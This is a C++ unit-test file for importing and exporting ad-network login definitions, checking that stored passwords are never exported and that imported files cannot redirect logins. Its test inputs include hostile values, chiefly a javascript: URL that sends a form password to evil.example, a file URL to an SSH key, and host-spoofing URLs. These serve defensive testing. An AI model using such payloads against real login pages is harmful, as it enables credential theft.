#include "core/networks/textstore.h"
#include "networks/definitions.h"
#include "networks/login.h"
#include "support/tempdir.h"
#include "text/codec.h"

#include "base/files.h"

#include <gtest/gtest.h>

#include <tuple>

namespace pw {
namespace {

std::unique_ptr<TNetwork> System(std::string code, std::string name)
{
    auto network = std::make_unique<TNetwork>();
    network->System = std::move(code);
    network->Name = std::move(name);
    network->FieldUser = "user";
    network->FieldPassword = "password";
    return network;
}

std::string Definitions(int count, const std::vector<std::vector<std::pair<std::string, std::string>>>& sections,
    std::string version = "3")
{
    std::string text = "[Networks]\r\n";
    if (count >= 0)
        text += "Count=" + std::to_string(count) + "\r\n";
    if (!version.empty())
        text += "Version=" + version + "\r\n";
    for (size_t k = 0; k < sections.size(); ++k) {
        text += "\r\n[Network" + std::to_string(k + 1) + "]\r\n";
        for (const auto& [key, value] : sections[k])
            text += key + "=" + value + "\r\n";
    }
    return text;
}

std::vector<std::string> Summary(const NetworkList& networks)
{
    std::vector<std::string> lines;
    for (const auto& n : networks) {
        std::string line = n->System + "|" + n->Name;
        for (const LoginEntry& login : n->Logins)
            line += "|" + login.Name;
        lines.push_back(line);
    }
    return lines;
}

TEST(ExportNetworks, WritesSystemNetworksOnlyInStoreOrder)
{
    NetworkList networks;
    networks.push_back(System("", "Mine"));
    networks.push_back(System("A8", "A8.net"));
    networks[1]->LoginURL = "https://a8/login";
    networks[1]->Character = "a8.net";
    networks[1]->Regist = "reg:EMail=m; ";
    networks[1]->RegistURL = "https://a8/reg";
    networks[1]->SetLogin("P", "u", "secret"); // logins never leave the machine
    TIniList scratch;
    const std::string text = ExportNetworksText(scratch, networks, 2);
    EXPECT_EQ(text,
        "\r\n[Network1]\r\nRegistURL=https://a8/reg\r\nRegist=reg:EMail=m; \r\nSystem=A8\r\n"
        "SignupURL=\r\nFieldOthers=\r\nFieldPassword=password\r\nFieldUser=user\r\n"
        "LoginInfoCount=0\r\nCharacter=a8.net\r\nLoginURL=https://a8/login\r\nName=A8.net\r\n"
        "\r\n[Networks]\r\nVersion=2\r\nCount=1\r\n");
    EXPECT_EQ(text.find("secret"), std::string::npos);

    NetworkList users;
    users.push_back(System("", "Mine"));
    EXPECT_EQ(ExportNetworksText(scratch, users, 1), "\r\n[Networks]\r\nVersion=1\r\nCount=0\r\n");
}

// What the export writes, the import reads back: every field of a definition,
// each set to a value that is not what a missing key reads as, so a key left
// out of either direction shows. Logins stay behind.
TEST(ExportNetworks, EveryFieldOfADefinitionComesBackThroughTheImport)
{
    NetworkList networks;
    networks.push_back(System("A8", "A8.net"));
    TNetwork& a8 = *networks[0];
    a8.LoginURL = "https://a8.example/login";
    a8.Character = "a8.net";
    a8.FieldUser = "login";
    a8.FieldPassword = "passwd";
    a8.FieldOthers = "<input type=hidden name=x value=1>";
    a8.SignupURL = "https://a8.example/signup";
    a8.Regist = "reg:EMail=m; ";
    a8.RegistURL = "https://a8.example/reg";
    a8.SetLogin("P", "u", "secret");
    networks.push_back(System("VC", "ValueCommerce"));
    networks[1]->FieldUser = "id";
    TIniList scratch;
    const std::string text = ExportNetworksText(scratch, networks, 7);

    NetworkList imported;
    int version = 0;
    ASSERT_TRUE(ImportNetworks(scratch, text, imported, version).ok);
    EXPECT_EQ(version, 7);
    ASSERT_EQ(imported.size(), networks.size());
    for (size_t k = 0; k < networks.size(); ++k) {
        const TNetwork& was = *networks[k];
        const TNetwork& is = *imported[k];
        EXPECT_EQ(std::tie(is.Name, is.LoginURL, is.Character, is.FieldUser, is.FieldPassword, is.FieldOthers,
                      is.SignupURL, is.System, is.Regist, is.RegistURL),
            std::tie(was.Name, was.LoginURL, was.Character, was.FieldUser, was.FieldPassword, was.FieldOthers,
                was.SignupURL, was.System, was.Regist, was.RegistURL))
            << was.Name;
        EXPECT_TRUE(is.Logins.empty());
    }

    // An import over the networks it came from changes no field and keeps the logins.
    ASSERT_TRUE(ImportNetworks(scratch, text, networks, version).ok);
    ASSERT_EQ(networks.size(), 2u);
    EXPECT_EQ(networks[0]->FieldOthers, "<input type=hidden name=x value=1>");
    EXPECT_EQ(networks[0]->FindLogin("P")->Password, "secret");
    EXPECT_EQ(ExportNetworksText(scratch, networks, 7), text);
}

TEST(ExportNetworks, WritesTheScrambledFileOrRefusesABadVersion)
{
    test::TempDir dir;
    NetworkList networks;
    networks.push_back(System("P", "Pn"));
    TIniList scratch;
    const Status bad = ExportNetworks(scratch, networks, "two", dir.path());
    EXPECT_FALSE(bad.ok);
    EXPECT_NE(bad.error.find("two"), std::string::npos);
    EXPECT_FALSE(FileExists(dir.file("nwks.txt")));

    ASSERT_TRUE(ExportNetworks(scratch, networks, "2", dir.path()).ok);
    std::string bytes;
    ASSERT_TRUE(ReadWholeFile(dir.file("nwks.txt"), bytes).ok);
    EXPECT_EQ(bytes[0], static_cast<char>('\r' ^ 'v'));
    ScrambleText(bytes);
    EXPECT_EQ(bytes, ExportNetworksText(scratch, networks, 2));

    // The exported file merges back with its version.
    NetworkList fresh;
    int version = 1;
    ASSERT_TRUE(ImportNetworks(scratch, bytes, fresh, version).ok);
    EXPECT_EQ(version, 2);
    EXPECT_EQ(Summary(fresh), (std::vector<std::string> { "P|Pn" }));
}

TEST(ImportNetworks, MergeUpdatesAddsAndRemovesSystemNetworksOnly)
{
    NetworkList networks;
    networks.push_back(System("P", "Old P"));
    networks.push_back(System("", "Mine"));
    networks.push_back(System("Q", "Q"));
    networks[0]->SetLogin("Basic", "up", "pp");
    networks[1]->SetLogin("Basic", "um", "pm");
    networks[2]->SetLogin("Basic", "uq", "pq");
    networks[0]->Regist = "old:EMail=m; ";
    TNetwork* p = networks[0].get();
    TNetwork* current = networks[2].get();

    const std::string text = Definitions(2,
        { { { "Name", "New P" }, { "System", "P" }, { "Regist", "reg:Zip=z; " },
              { "LoginURL", "https://p/login" } },
            { { "Name", "R" }, { "System", "R" }, { "FieldUser", "id" } } });
    TIniList scratch;
    int version = 1;
    ASSERT_TRUE(ImportNetworks(scratch, text, networks, version, &current).ok);
    EXPECT_EQ(version, 3);
    EXPECT_EQ(Summary(networks), (std::vector<std::string> { "P|New P|Basic", "|Mine|Basic", "R|R" }));
    EXPECT_EQ(networks[0].get(), p); // updated in place
    EXPECT_EQ(p->FindLogin("Basic")->User, "up");
    EXPECT_EQ(p->Regist, "reg:Zip=z; ");
    EXPECT_EQ(p->LoginURL, "https://p/login");
    EXPECT_EQ(p->FieldUser, "user"); // missing keys take the defaults
    EXPECT_EQ(networks[2]->FieldUser, "id");
    EXPECT_EQ(networks[2]->FieldPassword, "password");
    EXPECT_EQ(current, nullptr); // Q was the dialog's current network

    // The renamed network shows its new name in the login menu at once.
    const LoginMenu menu = BuildLoginMenu(networks);
    EXPECT_EQ(menu.Items[0].Caption, "[&1]New P");
    EXPECT_EQ(p->Forms->front().Name, "reg");
}

TEST(ImportNetworks, DuplicateCodesAndDefinitionsWithoutCode)
{
    NetworkList networks;
    networks.push_back(System("", "Mine"));
    networks.push_back(System("P", "P"));
    networks[0]->SetLogin("Basic", "u", "p");
    const std::string text = Definitions(4,
        { { { "Name", "P1" }, { "System", "P" } }, { { "Name", "nameless" } },
            { { "Name", "P2" }, { "System", "P" } }, { { "Name", "blank" }, { "System", "" } } },
        "");
    TIniList scratch;
    int version = 7;
    ASSERT_TRUE(ImportNetworks(scratch, text, networks, version).ok);
    EXPECT_EQ(version, 1); // missing version
    // The definitions without a code neither touch the user network nor add one.
    EXPECT_EQ(Summary(networks), (std::vector<std::string> { "|Mine|Basic", "P|P1", "P|P2" }));
}

TEST(ImportNetworks, ATextWithoutDefinitionsIsRefusedAndChangesNothing)
{
    const struct {
        const char* name;
        std::string text;
    } cases[] = {
        { "Empty", "" },
        { "NotADefinitionsFile", "<html><body>503 Service Unavailable</body></html>" },
        { "NoCount", Definitions(-1, { { { "Name", "P" }, { "System", "P" } } }) },
        { "CountZero", Definitions(0, { { { "Name", "P" }, { "System", "P" } } }) },
        { "NegativeCount", "[Networks]\r\nCount=-2\r\n" },
        { "NoSectionHasACode", Definitions(2, { { { "Name", "x" } }, { { "Name", "y" } } }) },
        { "HugeCountOfMissingSections", "[Networks]\r\nCount=2147483647\r\n" },
    };
    for (const auto& c : cases) {
        NetworkList networks;
        networks.push_back(System("P", "P"));
        networks.push_back(System("Q", "Q"));
        networks[1]->SetLogin("Basic", "u", "p");
        TIniList scratch;
        int version = 5;
        const Status status = ImportNetworks(scratch, c.text, networks, version);
        EXPECT_FALSE(status.ok) << c.name;
        EXPECT_EQ(status.error, kNoDefinitionsMessage) << c.name;
        EXPECT_EQ(version, 5) << c.name;
        EXPECT_EQ(Summary(networks), (std::vector<std::string> { "P|P", "Q|Q|Basic" })) << c.name;
    }
    EXPECT_EQ(codec::DecodeSjis(kNoDefinitionsMessage), "広告代理店の定義がありません。");
    EXPECT_EQ(codec::DecodeSjis(kNetworksUpdatedMessage), "広告代理店情報が更新されました。");
}

TEST(ImportNetworks, CodesStartingWithAStarAreOrdinaryCodes)
{
    NetworkList networks;
    networks.push_back(System("*P", "star"));
    networks.push_back(System("P", "plain"));
    TIniList scratch;
    int version = 1;
    ASSERT_TRUE(ImportNetworks(scratch,
        Definitions(2, { { { "Name", "p" }, { "System", "P" } }, { { "Name", "s" }, { "System", "*P" } } }),
        networks, version)
                    .ok);
    EXPECT_EQ(Summary(networks), (std::vector<std::string> { "*P|s", "P|p" }));
}

// Stored passwords go to the login address: a definitions file must not move
// it to another host behind the user's back.
TEST(ImportNetworks, ALoginAddressMovedToAnotherHostIsKeptWhileTheNetworkHasLogins)
{
    struct Case {
        std::string oldURL;
        std::string newURL;
        bool moved;
    };
    const std::vector<Case> cases = {
        { "https://p.example/login", "https://p.example/login2", false },
        { "https://p.example/login", "HTTPS://P.Example:443/other?x=1", false },
        { "http://p.example/login", "https://p.example/login", false }, // up to https
        { "http://p.example:8080/login", "https://p.example/login", false },
        { "https://p.example/login", "http://p.example/login", true }, // the password would go in clear
        { "https://p.example/login", "HTTP://P.Example:8443/other?x=1", true },
        { "https://p.example/login", "https://p.example:8443/login", true }, // another server
        { "http://p.example/login", "http://p.example:8080/login", true },
        { "https://user@p.example/login", "https://p.example/", false },
        { "", "https://p.example/login", false }, // no address before: nothing was sent anywhere
        { "https://p.example/login", "https://evil.example/login", true },
        { "https://p.example/login", "https://p.example@evil.example/login", true },
        { "https://p.example/login", "https://p.example.evil.example/login", true },
        { "https://p.example/login", "https://evil.example\\@p.example/", true },
        { "https://p.example/login", "https://[::1]:80/login", true },
        { "https://p.example/login", "", true },
    };
    for (const Case& c : cases) {
        SCOPED_TRACE(c.oldURL + " -> " + c.newURL);
        NetworkList networks;
        networks.push_back(System("P", "P"));
        networks.push_back(System("Q", "Q"));
        networks[0]->LoginURL = c.oldURL;
        networks[0]->SetLogin("Basic", "me", "secret");
        networks[1]->LoginURL = c.oldURL; // no stored login: nothing to protect
        TNetwork* p = networks[0].get();

        const std::string text = Definitions(2,
            { { { "Name", "New P" }, { "System", "P" }, { "LoginURL", c.newURL }, { "Regist", "reg:Zip=z; " } },
                { { "Name", "Q" }, { "System", "Q" }, { "LoginURL", c.newURL } } });
        TIniList scratch;
        int version = 1;
        std::vector<LoginHostChange> kept;
        ASSERT_TRUE(ImportNetworks(scratch, text, networks, version, nullptr, &kept).ok);
        EXPECT_EQ(networks[1]->LoginURL, c.newURL);
        EXPECT_EQ(p->Name, "New P"); // the rest of the definition is taken
        EXPECT_EQ(p->Regist, "reg:Zip=z; ");
        if (!c.moved) {
            EXPECT_TRUE(kept.empty());
            EXPECT_EQ(p->LoginURL, c.newURL);
            continue;
        }
        EXPECT_EQ(p->LoginURL, c.oldURL);
        ASSERT_EQ(kept.size(), 1u);
        EXPECT_EQ(kept[0].Network, p);
        EXPECT_EQ(kept[0].Name, "New P");
        EXPECT_EQ(kept[0].OldURL, c.oldURL);
        EXPECT_EQ(kept[0].NewURL, c.newURL);

        // The user agrees: the new addresses are taken.
        AcceptLoginHostChanges(networks, kept);
        EXPECT_EQ(p->LoginURL, c.newURL);
    }
}

// A login address that is not an http(s) address with a host would run in the
// login page or post the password to a local file, for a new network as much
// as for one with stored logins: the whole text is refused before anything
// changes.
TEST(ImportNetworks, ALoginAddressThatIsNotHttpRefusesTheWholeText)
{
    for (const std::string url :
        { "javascript:location='https://evil.example/?'+document.forms[0].pw.value", "  jAvAsCrIpT:alert(1)",
            "file:///home/user/.ssh/id_rsa", "//evil.example/login", "data:text/html,x", "https://" }) {
        SCOPED_TRACE(url);
        NetworkList networks;
        networks.push_back(System("P", "P"));
        networks[0]->LoginURL = "https://p.example/login";
        int version = 7;
        TIniList scratch;
        const Status imported = ImportNetworks(scratch,
            Definitions(2,
                { { { "Name", "P2" }, { "System", "P" }, { "LoginURL", "https://p.example/new" } },
                    { { "Name", "New" }, { "System", "N" }, { "LoginURL", url } } }),
            networks, version);
        EXPECT_FALSE(imported.ok);
        EXPECT_NE(imported.error.find(url), std::string::npos);
        EXPECT_NE(codec::DecodeSjis(imported.error).find("http: または https:"), std::string::npos);
        EXPECT_EQ(Summary(networks), (std::vector<std::string> { "P|P" }));
        EXPECT_EQ(networks[0]->LoginURL, "https://p.example/login");
        EXPECT_EQ(version, 7);
    }
    // No address at all is a network without a login page, and is taken.
    NetworkList networks;
    TIniList scratch;
    int version = 1;
    EXPECT_TRUE(
        ImportNetworks(scratch, Definitions(1, { { { "Name", "N" }, { "System", "N" } } }), networks, version).ok);
    EXPECT_EQ(networks.size(), 1u);
}

TEST(ImportNetworks, WithoutAListTheOldAddressIsStillKept)
{
    NetworkList networks;
    networks.push_back(System("P", "P"));
    networks[0]->LoginURL = "https://p.example/login";
    networks[0]->SetLogin("Basic", "me", "secret");
    TIniList scratch;
    int version = 1;
    ASSERT_TRUE(ImportNetworks(scratch,
        Definitions(1, { { { "System", "P" }, { "LoginURL", "https://evil.example/" } } }), networks, version)
                    .ok);
    EXPECT_EQ(networks[0]->LoginURL, "https://p.example/login");
}

TEST(ImportNetworks, AcceptingSkipsNetworksNoLongerListed)
{
    NetworkList networks;
    networks.push_back(System("P", "P"));
    networks[0]->LoginURL = "https://p.example/";
    std::vector<LoginHostChange> changes = { { nullptr, "gone", "https://a/", "https://b/" },
        { networks[0].get(), "P", "https://p.example/", "https://n.example/" } };
    TNetwork removed;
    changes[0].Network = &removed; // not in the list any more
    AcceptLoginHostChanges(networks, changes);
    EXPECT_EQ(networks[0]->LoginURL, "https://n.example/");
    EXPECT_EQ(removed.LoginURL, "");
}

TEST(LoginHost, OfAddresses)
{
    const std::pair<std::string, std::string> cases[] = {
        { "https://A.Example/x", "a.example" },
        { "http://a.example:8080", "a.example" },
        { "https://u:p@a.example/", "a.example" },
        { "https://a.example@b.example/", "b.example" },
        { "//a.example/x", "a.example" },
        { "https://[::1]:443/", "[::1]" },
        { "https://a.example\\x/", "a.example" },
        { "https://a.example?x=@b", "a.example" },
        { "https://a.example#@b", "a.example" },
        { "login.php", "" },
        { "/login", "" },
        { "", "" },
        { "javascript:alert(1)", "" },
        { "  https://a.example/", "a.example" },
    };
    for (const auto& [url, host] : cases)
        EXPECT_EQ(LoginHost(url), host) << url;
}

TEST(ApplyNetworkUpdate, StoresVersionAndNetworksOrChangesNothing)
{
    NetworkList networks;
    networks.push_back(System("Q", "Q"));
    test::TextStore store("[Setups]\r\nv2=1\r\n");
    TIniList scratch;
    int version = 1;

    std::string refused = "garbage";
    ScrambleText(refused);
    EXPECT_FALSE(ApplyNetworkUpdate(scratch, refused, networks, store, version).ok);
    EXPECT_EQ(store.ReadInteger("Setups", "v2", 0), 1);
    EXPECT_FALSE(store.SectionExists("Networks"));

    std::string body = Definitions(1, { { { "Name", "P" }, { "System", "P" } } }, "2");
    ScrambleText(body);
    ASSERT_TRUE(ApplyNetworkUpdate(scratch, body, networks, store, version).ok);
    EXPECT_EQ(version, 2);
    EXPECT_EQ(store.ReadInteger("Setups", "v2", 0), 2);
    EXPECT_EQ(store.ReadInteger("Networks", "Count", 0), 1);
    EXPECT_EQ(store.ReadString("Network1", "System", ""), "P");

    // A moved login host is kept in the store too, and reported.
    networks[0]->LoginURL = "https://p.example/";
    networks[0]->SetLogin("Basic", "me", "secret");
    std::string moved
        = Definitions(1, { { { "Name", "P" }, { "System", "P" }, { "LoginURL", "https://evil.example/" } } }, "5");
    ScrambleText(moved);
    std::vector<LoginHostChange> kept;
    ASSERT_TRUE(ApplyNetworkUpdate(scratch, moved, networks, store, version, nullptr, &kept).ok);
    EXPECT_EQ(kept.size(), 1u);
    EXPECT_EQ(store.ReadString("Network1", "LoginURL", ""), "https://p.example/");
    EXPECT_EQ(store.ReadInteger("Setups", "v2", 0), 5);
}

} // namespace
} // namespace pw
